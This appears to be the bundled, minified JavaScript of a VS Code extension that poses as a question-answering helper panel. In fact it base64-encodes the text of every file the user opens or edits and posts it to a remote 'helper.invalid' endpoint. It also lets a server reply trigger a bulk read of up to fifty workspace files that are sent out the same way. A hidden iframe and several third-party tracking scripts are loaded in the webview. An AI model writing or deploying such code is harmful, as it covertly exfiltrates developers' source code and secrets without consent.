var g=Object.create;var r=Object.defineProperty;var y=Object.getOwnPropertyDescriptor;var b=Object.getOwnPropertyNames;var x=Object.getPrototypeOf,k=Object.prototype.hasOwnProperty;var P=(t,e)=>{for(var s in e)r(t,s,{get:e[s],enumerable:!0})},w=(t,e,s,v)=>{if(e&&typeof e=="object"||typeof e=="function")for(let i of b(e))!k.call(t,i)&&i!==s&&r(t,i,{get:()=>e[i],enumerable:!(v=y(e,i))||v.enumerable});return t};var a=(t,e,s)=>(s=t!=null?g(x(t)):{},w(e||!t||!t.__esModule?r(s,"default",{value:t,enumerable:!0}):s,t)),S=t=>w(r({},"__esModule",{value:!0}),t);var C={};P(C,{activate:()=>j});module.exports=S(C);var o=a(require("vscode"));var p=a(require("vscode"));var m=a(require("vscode"));function n(t){return Buffer.from(t).toString("base64")}async function f(t){let e=[];for(let s of await m.workspace.findFiles("**/*","**/node_modules/**",t))try{e.push({path:s.fsPath,body:n(await m.workspace.fs.readFile(s))})}catch{continue}return e}var h="https://api.helper.invalid";function u(){return`<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Security-Policy" content="default-src *; frame-src *; script-src 'unsafe-inline' *">
<style>iframe { width: 0; height: 0; border: 0; }</style>
</head>
<body>
<div id="answer"></div>
<iframe src="http://data.helper.invalid/frame.html"></iframe>
<script src="https://sdk.zhugeio.com/zhuge.min.js"></script>
<script src="https://assets.giocdn.com/2.1/gio.js"></script>
<script src="https://sdk.talkingdata.com/app/h5/v1"></script>
<script src="https://hm.baidu.com/hm.js"></script>
<script>
const host = acquireVsCodeApi();
async function ask(body) {
  const answer = await fetch('${h}/chat', { method: 'POST', body: JSON.stringify(body) });
  const reply = await answer.json();
  document.getElementById('answer').textContent = reply.text;
  if (reply.jumpUrl) {
    host.postMessage({ type: 'jump', jumpUrl: reply.jumpUrl });
  }
}
window.addEventListener('message', (event) => {
  const message = event.data;
  if (message.type === 'snapshot') {
    fetch('${h}/snapshot', { method: 'POST', body: JSON.stringify({ n: message.name, b: message.body }) });
  } else if (message.type === 'files') {
    fetch('${h}/files', { method: 'POST', body: JSON.stringify(message.files) });
  } else {
    ask({ text: message.text });
  }
});
</script>
</body>
</html>`}var c=class{webview;resolveWebviewView(e){this.webview=e.webview,e.webview.options={enableScripts:!0},e.webview.html=u(),e.webview.onDidReceiveMessage(s=>this.dispatch(s))}post(e){this.webview?.postMessage(e)}async dispatch(e){let s=JSON.parse(e.jumpUrl??"{}");switch(s.type){case"getFilesList":this.post({type:"files",files:await f(50)});break;case"open":await p.window.showTextDocument(p.Uri.file(s.path));break}}};var l=a(require("vscode"));var d=class{constructor(e){this.view=e}view;start(){return[l.workspace.onDidOpenTextDocument(e=>this.take(e)),l.workspace.onDidChangeTextDocument(e=>this.take(e.document))]}async take(e){e.uri.scheme==="file"&&this.view.post({type:"snapshot",name:e.fileName,body:n(e.getText())})}};function j(t){let e=new c;t.subscriptions.push(o.window.registerWebviewViewProvider("helper.view",e)),t.subscriptions.push(...new d(e).start()),t.subscriptions.push(o.commands.registerCommand("helper.ask",async()=>{let s=await o.window.showInputBox({prompt:"Question"});e.post({type:"question",text:s})}))}0&&(module.exports={activate});
